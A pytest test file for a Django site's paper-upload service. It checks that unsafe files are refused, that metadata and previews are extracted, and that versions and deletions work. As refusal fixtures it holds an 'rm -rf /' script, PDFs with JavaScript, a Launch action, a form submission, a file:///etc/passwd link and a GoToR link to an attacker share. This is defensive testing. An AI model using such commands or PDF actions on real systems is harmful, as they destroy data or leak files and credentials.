"""Staff uploading papers: what is refused and why, what is read from a file, new versions."""

import io
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from documents.ingest import ingest_upload, replace_file, title_from_name
from documents.models import Document, DocumentVersion, DownloadDay
from documents.previews import find_preview, preview_url
from imroc_site.demo.pdf import make_pdf
from tests.factories import attach, make_document, make_post, pdf_bytes

pytestmark = pytest.mark.django_db

PARAGRAPHS = [
    "Peer support workers bring lived experience of mental health conditions to services.",
    "Recovery Colleges offer courses designed and delivered by people with lived experience.",
]


def text_pdf(title="Peer Support in Practice", size=9_000) -> bytes:
    """A real PDF with text on every page (two or three pages), untagged and without /Lang."""
    return make_pdf(title, PARAGRAPHS, size)


def changed_pdf(base: bytes | None = None, *, catalog=None, first_page=None, js=None) -> bytes:
    """A copy of `base` with entries added to its catalog or first page, or a script."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(base or text_pdf())))
    for key, value in (catalog or {}).items():
        writer.root_object[NameObject(key)] = value(writer) if callable(value) else value
    for key, value in (first_page or {}).items():
        writer.pages[0][NameObject(key)] = value
    if js:
        writer.add_open_action(JavaScript(js))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(kind),
            **{NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()},
        }
    )


def office_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bytes(**extra: bytes) -> bytes:
    return office_zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document/>',
            **extra,
        }
    )


def odt_bytes() -> bytes:
    return office_zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b'<?xml version="1.0"?><office:document-content/>',
        }
    )


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, "PNG")
    return buffer.getvalue()


def ingest(content: bytes, name="paper.pdf", title="", by=None) -> Document:
    return ingest_upload(Document(title=title), ContentFile(content, name=name), by=by)


def admin_upload(client, content: bytes, name="paper.pdf", **fields):
    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
    data = {"title": "", "description": "", "visibility": "public", "file": upload, **fields}
    return client.post(reverse("admin:documents_document_add"), data)


def change_form_data(client, document, **fields) -> dict:
    """What the change form posts as it stands, with `fields` changed."""
    page = client.get(reverse("admin:documents_document_change", args=[document.pk]))
    form = page.context["adminform"].form
    data = {name: form[name].value() for name in ("title", "description", "visibility")}
    for inline in page.context["inline_admin_formsets"]:
        management = inline.formset.management_form
        data |= {management.add_prefix(key): value for key, value in management.initial.items()}
    return data | fields


def media(settings) -> Path:
    return Path(settings.MEDIA_ROOT)


# --- What is refused, and the reason staff are given ---------------------------------------

REFUSED = [
    ("renamed PNG", png_bytes, "is not a PDF: its content looks like a PNG image"),
    ("HTML", lambda: b"<!doctype html><html><body>Hi</body></html>", "looks like a web page"),
    ("script", lambda: b"#!/bin/sh\nrm -rf /\n", "looks like a script"),
    ("ZIP", lambda: office_zip({"notes.txt": b"hello"}), "a ZIP archive or an Office document"),
    ("empty file", lambda: b"", "is empty"),
    ("truncated PDF", lambda: pdf_bytes(pages=2)[:60], "starts like a PDF but cannot be read"),
    ("JavaScript", lambda: changed_pdf(js="app.alert('hi')"), "contains JavaScript"),
    (
        "JavaScript on a page",
        lambda: changed_pdf(
            first_page={"/AA": DictionaryObject({NameObject("/O"): action("/JavaScript", JS="1")})}
        ),
        "contains JavaScript",
    ),
    (
        "launch action",
        lambda: changed_pdf(catalog={"/OpenAction": action("/Launch", F="calc.exe")}),
        "contains an action that opens other programs or files",
    ),
    (
        "form submission",
        lambda: changed_pdf(catalog={"/OpenAction": action("/SubmitForm", F="http://x.test")}),
        "sends form data over the internet",
    ),
    (
        "link to a local file",
        lambda: changed_pdf(
            first_page={
                "/Annots": ArrayObject(
                    [
                        DictionaryObject(
                            {
                                NameObject("/Type"): NameObject("/Annot"),
                                NameObject("/Subtype"): NameObject("/Link"),
                                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                                NameObject("/A"): action("/URI", URI="file:///etc/passwd"),
                            }
                        )
                    ]
                )
            }
        ),
        "a link to a file on the reader's own computer",
    ),
    ("encrypted PDF", lambda: _encrypted(text_pdf()), "is encrypted"),
    ("Word document", docx_bytes, "is not a PDF: its content looks like a Word document (DOCX)"),
]


def _encrypted(content: bytes, key="pw") -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    writer.encrypt(key)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("kind, make_content, message", REFUSED, ids=[r[0] for r in REFUSED])
def test_upload_refused_with_the_reason_next_to_the_file_field(
    admin_client, kind, make_content, message
):
    response = admin_upload(admin_client, make_content(), description="Typed with care")

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert list(errors) == ["file"]
    assert message in " ".join(errors["file"])
    assert "Typed with care" in response.content.decode()
    assert not Document.objects.exists()


def test_upload_over_the_size_limit_is_refused_with_both_sizes(admin_client, settings):
    settings.DOCUMENTS_MAX_UPLOAD_SIZE = 5 * 1024

    response = admin_upload(admin_client, text_pdf(size=9_000))

    [message] = response.context["adminform"].form.errors["file"]
    assert "the largest paper the site accepts is 5.0\xa0KB" in message
    assert not Document.objects.exists()


def test_upload_service_refuses_too_and_stores_nothing(settings):
    with pytest.raises(ValidationError, match="contains JavaScript"):
        ingest(changed_pdf(js="app.alert(1)"))

    assert not Document.objects.exists()
    assert not any(path.is_file() for path in media(settings).rglob("*"))


def test_encrypted_upload_is_accepted_when_the_setting_allows(settings):
    settings.DOCUMENTS_ALLOW_ENCRYPTED = True

    restricted = ingest(_encrypted(text_pdf(title="Restricted"), key=""))
    assert restricted.page_count >= 2 and "Peer support workers" in restricted.text

    # One that needs a password to open cannot be checked for scripts, nor read by visitors.
    with pytest.raises(ValidationError) as refused:
        ingest(_encrypted(text_pdf()), title="Locked")
    assert "needs a password to open" in str(refused.value)


def test_office_formats_are_accepted_by_content_when_enabled(settings):
    settings.DOCUMENTS_EXTRA_FORMATS = ["docx", "odt"]

    word = ingest(docx_bytes(), name="annual-report.pdf")
    writer = ingest(odt_bytes(), name="minutes.odt")

    assert (word.file_type, word.content_type) == (
        "DOCX",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    )
    assert word.file.name.endswith(".docx")  # named for what it is, not what it claimed
    assert word.title == "Annual report"
    assert word.link_text.startswith("Download (DOCX, ")
    assert (writer.file_type, writer.content_type) == (
        "ODT",
        "application/vnd.oasis.opendocument.text",
    )
    assert word.previews == [] and word.page_count is None


def test_office_document_with_macros_is_refused(settings):
    settings.DOCUMENTS_EXTRA_FORMATS = ["docx"]

    with pytest.raises(ValidationError, match="contains macros"):
        ingest(docx_bytes(**{"word/vbaProject.bin": b"\x00" * 10}), name="report.docx")


def test_admin_accepts_a_docx_when_enabled(admin_client, settings):
    settings.DOCUMENTS_EXTRA_FORMATS = ["docx"]

    response = admin_upload(admin_client, docx_bytes(), name="report.docx", title="Report")

    assert response.status_code == 302
    assert Document.objects.get().file_type == "DOCX"


# --- What is read from an accepted PDF -----------------------------------------------------


def test_upload_records_size_pages_hash_title_and_uploader(admin_client, admin_user):
    content = text_pdf(title="Peer Support in Practice")

    response = admin_upload(admin_client, content, name="upload.pdf")

    assert response.status_code == 302
    document = Document.objects.get()
    assert document.title == "Peer Support in Practice"  # from the PDF, as the title was blank
    assert document.size == len(content)
    assert document.page_count == len(PdfReader(io.BytesIO(content)).pages) >= 2
    assert document.sha256 == __import__("hashlib").sha256(content).hexdigest()
    assert document.uploaded_by == admin_user
    assert (document.file_type, document.content_type) == ("PDF", "application/pdf")


def test_title_staff_typed_wins_and_a_pdf_without_one_gets_its_file_name():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)

    assert ingest(text_pdf(), title="Chosen by staff").title == "Chosen by staff"
    assert ingest(buffer.getvalue(), name="co_production-tips.pdf").title == "Co production tips"


@pytest.mark.parametrize(
    "name, title",
    [
        ("recovery-the-business-case.pdf", "Recovery the business case"),
        ("___.pdf", "Untitled paper"),
    ],
)
def test_title_from_name(name, title):
    assert title_from_name(name) == title


def test_text_of_each_page_is_kept_with_form_feeds_between():
    document = ingest(text_pdf(size=12_000))

    pages = document.text.split("\f")
    assert len(pages) == document.page_count >= 3
    assert pages[0].startswith("Peer Support in Practice")
    assert all("Recovery Colleges offer courses" in page for page in pages[:-1])


def test_previews_of_the_first_page_are_stored_at_two_widths(settings):
    document = ingest(text_pdf())

    assert [p["width"] for p in document.previews] == [240, 480]
    for preview in document.previews:
        assert preview["name"] == (
            f"documents/previews/{document.pk}/{document.sha256[:12]}-{preview['width']}.webp"
        )
        with Image.open(media(settings) / preview["name"]) as image:
            assert image.format == "WEBP"
            assert image.size == (preview["width"], preview["height"])
            assert image.height == int(preview["width"] * 841.89 / 595.28)  # A4 proportions


def test_preview_url_is_served_by_the_public_preview_view(client):
    document = ingest(text_pdf())
    assert client.get(preview_url(document, 240)).status_code == 404  # with its posts: none yet
    document.visibility = Document.Visibility.PUBLIC
    document.save()

    response = client.get(preview_url(document, 240))

    assert response["Content-Type"] == "image/webp"
    with Image.open(io.BytesIO(b"".join(response.streaming_content))) as image:
        assert image.width == 240
    assert preview_url(document, 999) is None


# --- Accessibility of the paper ------------------------------------------------------------


def test_untagged_pdf_lists_what_screen_readers_miss():
    report = ingest(text_pdf()).accessibility

    assert report["tagged"] is False and report["language"] == ""
    assert report["has_title"] is True
    assert report["text_pages"] == report["pages"] >= 2
    problems = " ".join(report["problems"])
    assert "No tags:" in problems
    assert "No language set" in problems
    assert "No text" not in problems


def test_tagged_pdf_with_language_and_title_has_fewer_problems():
    untagged = ingest(text_pdf()).accessibility
    content = changed_pdf(
        text_pdf(title="Tagged paper"),
        catalog={
            "/MarkInfo": DictionaryObject({NameObject("/Marked"): BooleanObject(True)}),
            "/StructTreeRoot": lambda writer: writer._add_object(
                DictionaryObject({NameObject("/Type"): NameObject("/StructTreeRoot")})
            ),
            "/Lang": TextStringObject("en-GB"),
            "/ViewerPreferences": DictionaryObject(
                {NameObject("/DisplayDocTitle"): BooleanObject(True)}
            ),
        },
    )

    report = ingest(content).accessibility

    assert report["tagged"] is True and report["language"] == "en-GB"
    assert report["problems"] == []
    assert len(report["problems"]) < len(untagged["problems"])


def test_pages_without_text_are_reported_as_scans():
    report = ingest(pdf_bytes(pages=2)).accessibility

    assert report["text_pages"] == 0
    assert any(problem.startswith("No text on any page") for problem in report["problems"])


def test_admin_change_form_shows_the_problems_or_none(admin_client):
    document = ingest(text_pdf())
    document.accessibility["problems"] = []
    document.save()
    untagged = ingest(text_pdf(title="Another"))

    fine = admin_client.get(reverse("admin:documents_document_change", args=[document.pk]))
    missing = admin_client.get(reverse("admin:documents_document_change", args=[untagged.pk]))

    assert "No problems found." in fine.content.decode()
    assert "<li>No tags: screen readers cannot tell" in missing.content.decode()


# --- The same file twice --------------------------------------------------------------------


def test_same_file_again_is_refused_with_a_link_to_the_paper(admin_client):
    content = text_pdf()
    existing = ingest(content, title="Already here")

    response = admin_upload(admin_client, content, name="copy.pdf", title="A copy")

    html = response.content.decode()
    change_url = reverse("admin:documents_document_change", args=[existing.pk])
    assert f'already on the site, as “<a href="{change_url}">Already here</a>”' in html
    assert 'value="A copy"' in html
    assert Document.objects.count() == 1


def test_earlier_version_again_is_refused_too(admin_client):
    old = text_pdf(title="First draft")
    document = ingest(old, title="Paper")
    replace_file(document, ContentFile(text_pdf(title="Final"), name="final.pdf"), by=None)

    response = admin_upload(admin_client, old)

    [message] = response.context["adminform"].form.errors["file"]
    assert "already on the site, as an earlier version of “<a href=" in message
    assert ">Paper</a>”" in message


# --- Uploading a new version ----------------------------------------------------------------


def test_admin_upload_of_a_new_version_keeps_the_address_and_the_old_file(
    admin_client, admin_user, settings, django_capture_on_commit_callbacks
):
    document = ingest(text_pdf(title="First draft"), title="Paper", name="first.pdf")
    old_file, old_previews = document.file.name, [p["name"] for p in document.previews]
    address, download = document.get_absolute_url(), document.get_download_url()
    new = text_pdf(title="Final", size=12_000)

    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            reverse("admin:documents_document_change", args=[document.pk]),
            change_form_data(admin_client, document, file=SimpleUploadedFile("final.pdf", new)),
        )

    assert response.status_code == 302
    document.refresh_from_db()
    assert (document.get_absolute_url(), document.get_download_url()) == (address, download)
    assert document.file.open("rb").read() == new
    assert document.page_count >= 3 and document.uploaded_by == admin_user
    assert timezone.now() - document.file_updated_at < timedelta(minutes=1)
    version = document.versions.get()
    assert version.file.name == old_file and (media(settings) / old_file).is_file()
    assert version.sha256 != document.sha256
    assert not any((media(settings) / name).exists() for name in old_previews)
    assert all((media(settings) / p["name"]).is_file() for p in document.previews)


def test_earlier_versions_are_listed_with_a_staff_download(admin_client, client):
    document = ingest(text_pdf(title="First draft"), title="Paper")
    old = document.file.open("rb").read()
    replace_file(document, ContentFile(text_pdf(title="Final"), name="final.pdf"), by=None)
    version = document.versions.get()
    url = reverse("admin:documents_document_version_file", args=[document.pk, version.pk])

    page = admin_client.get(reverse("admin:documents_document_change", args=[document.pk]))
    response = admin_client.get(url)

    assert "Earlier versions" in page.content.decode()
    assert f'href="{url}"' in page.content.decode()
    assert b"".join(response.streaming_content) == old
    assert "attachment;" in response["Content-Disposition"]
    assert client.get(url).status_code == 302  # to the login page
    document.refresh_from_db()
    assert document.download_count == 0  # staff fetching a file is not a download


def test_new_version_may_change_the_title_only_if_staff_left_it_blank():
    document = ingest(text_pdf(title="Draft title"))
    document.title = ""

    replace_file(document, ContentFile(text_pdf(title="Final title"), name="f.pdf"), by=None)

    assert document.title == "Final title"


# --- Deleting -------------------------------------------------------------------------------


def test_deleting_removes_the_file_versions_and_previews(
    admin_client, settings, django_capture_on_commit_callbacks
):
    document = ingest(text_pdf(title="First"), title="Paper")
    with django_capture_on_commit_callbacks(execute=True):
        replace_file(document, ContentFile(text_pdf(title="Second"), name="second.pdf"), by=None)
    assert len(list(media(settings).rglob("*.*"))) == 4  # two files, the new file's previews

    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(
            reverse("admin:documents_document_delete", args=[document.pk]), {"post": "yes"}
        )

    assert not Document.objects.exists() and not DocumentVersion.objects.exists()
    assert not list(media(settings).rglob("*.*"))


def test_bulk_delete_removes_files_too(admin_client, settings, django_capture_on_commit_callbacks):
    papers = [ingest(text_pdf(title=f"Paper {n}")) for n in range(2)]

    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(
            reverse("admin:documents_document_changelist"),
            {
                "action": "delete_selected",
                "_selected_action": [p.pk for p in papers],
                "post": "yes",
            },
        )

    assert not Document.objects.exists()
    assert not list(media(settings).rglob("*.*"))


def test_delete_confirmation_warns_which_posts_lose_the_paper(admin_client):
    document = make_document()
    attach(make_post(title="Spring newsletter"), document)
    attach(make_post(title="Board papers"), document)

    html = admin_client.get(
        reverse("admin:documents_document_delete", args=[document.pk])
    ).content.decode()

    assert 'class="warning"' in html
    assert "This paper is used in\n    2 posts:" in html
    assert "Spring newsletter</a>" in html and "Board papers</a>" in html
    assert "They will lose their link to it." in html


def test_bulk_delete_confirmation_warns_too(admin_client):
    used, unused = make_document(), make_document(title="Unused", name="u.pdf")
    attach(make_post(title="Spring newsletter"), used)

    html = admin_client.post(
        reverse("admin:documents_document_changelist"),
        {"action": "delete_selected", "_selected_action": [used.pk, unused.pk]},
    ).content.decode()

    assert "These papers are used in\n    1 post:" in html
    assert "They will lose their link to them." in html
    assert Document.objects.count() == 2


# --- The admin list and the download chart --------------------------------------------------


def _papers(count: int, start: int = 0) -> None:
    for number in range(start, start + count):
        document = ingest(pdf_bytes(title=f"Paper {number}"))
        attach(make_post(), document)


def test_admin_changelist_queries_do_not_grow_with_papers(
    admin_client, django_assert_max_num_queries
):
    url = reverse("admin:documents_document_changelist")
    _papers(2)
    with CaptureQueriesContext(connection) as few:
        admin_client.get(url)

    _papers(18, start=2)
    with django_assert_max_num_queries(len(few)):
        response = admin_client.get(url)

    html = response.content.decode()
    assert html.count('<img src="/admin/documents/document/') == 20
    assert html.count('/change/">Post number') == 20


def test_admin_thumbnail_is_served_to_staff_only(admin_client, client):
    document = ingest(text_pdf())
    url = reverse("admin:documents_document_preview", args=[document.pk, 240])

    response = admin_client.get(url)

    assert response["Content-Type"] == "image/webp"
    assert "private" in response["Cache-Control"]
    with Image.open(io.BytesIO(b"".join(response.streaming_content))) as image:
        assert image.width == find_preview(document, 240)["width"] == 240
    assert client.get(url).status_code == 302
    missing = reverse("admin:documents_document_preview", args=[document.pk, 999])
    assert admin_client.get(missing).status_code == 404


def test_admin_change_form_charts_the_last_90_days_of_downloads(admin_client):
    document = ingest(text_pdf())
    today = timezone.localdate()
    for days_ago, count in [(0, 3), (10, 2), (120, 4)]:
        DownloadDay.objects.create(document=document, day=today - timedelta(days_ago), count=count)
    Document.objects.filter(pk=document.pk).update(download_count=9)

    html = admin_client.get(
        reverse("admin:documents_document_change", args=[document.pk])
    ).content.decode()

    assert (
        "<strong>5</strong> downloads in the last 90 days;\n    <strong>9</strong> in all." in html
    )
    assert html.count("<rect ") == 2
    assert f"{today:%a} {today.day} {today:%b %Y}: 3 downloads</title>" in html
    assert '<svg role="img" aria-labelledby="downloads-chart-title"' in html


def test_admin_add_form_has_only_what_staff_fill_in(admin_client):
    html = admin_client.get(reverse("admin:documents_document_add")).content.decode()

    assert 'name="file"' in html and 'name="title"' in html
    assert "Earlier versions" not in html and "downloads per day" not in html.lower()


# --- Reading stored papers again ------------------------------------------------------------


def test_reindex_documents_fills_in_what_older_uploads_lack():
    document = make_document(content=text_pdf())  # saved straight, as before the service
    assert document.sha256 == "" and document.previews == []

    output = io.StringIO()
    call_command("reindex_documents", stdout=output)

    document.refresh_from_db()
    assert document.page_count >= 2 and len(document.sha256) == 64
    assert [p["width"] for p in document.previews] == [240, 480]
    assert document.text.startswith("Peer Support in Practice")
    assert document.accessibility["pages"] == document.page_count
    assert "Read again: 1 paper; failed: 0." in output.getvalue()


def test_reindex_twice_keeps_one_set_of_previews(settings):
    document = ingest(text_pdf())

    call_command("reindex_documents", str(document.pk), stdout=io.StringIO())

    document.refresh_from_db()
    assert sorted(p.name for p in media(settings).rglob("*.webp")) == sorted(
        Path(p["name"]).name for p in document.previews
    )


def test_demo_papers_go_through_the_upload_service():
    call_command("load_demo_content", stdout=io.StringIO())

    for document in Document.objects.all():
        assert len(document.previews) == 2 and document.page_count >= 2
        assert "No tags:" in " ".join(document.accessibility_problems)


def test_a_link_that_opens_another_file_is_refused():
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def go_to_remote(writer):
        return writer._add_object(
            DictionaryObject(
                {
                    NameObject("/S"): NameObject("/GoToR"),
                    NameObject("/F"): TextStringObject("\\\\attacker\\share\\x.pdf"),
                }
            )
        )

    with pytest.raises(ValidationError) as refused:
        ingest(changed_pdf(catalog={"/OpenAction": go_to_remote}))
    assert "a link that opens another file" in str(refused.value)


def test_control_characters_in_the_pdf_title_are_dropped():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf())))
    writer.add_metadata({"/Title": "Annual\x00 report\x07 2024"})
    buffer = io.BytesIO()
    writer.write(buffer)
    assert ingest(buffer.getvalue()).title == "Annual report 2024"


def test_a_paper_may_take_back_one_of_its_own_earlier_files():
    first = text_pdf(title="First draft")
    document = ingest(first, title="Paper")
    replace_file(document, ContentFile(text_pdf(title="Final"), name="final.pdf"), by=None)

    replace_file(document, ContentFile(first, name="first.pdf"), by=None)  # a revert

    document.refresh_from_db()
    assert "First draft" in document.text and document.versions.count() == 2


def test_a_failed_store_leaves_no_file_behind(settings, monkeypatch):
    from documents import ingest as ingest_module

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(ingest_module, "_store_previews", broken)
    with pytest.raises(OSError):
        ingest(text_pdf())

    assert not Document.objects.exists()
    assert not any(path.is_file() for path in media(settings).rglob("*"))
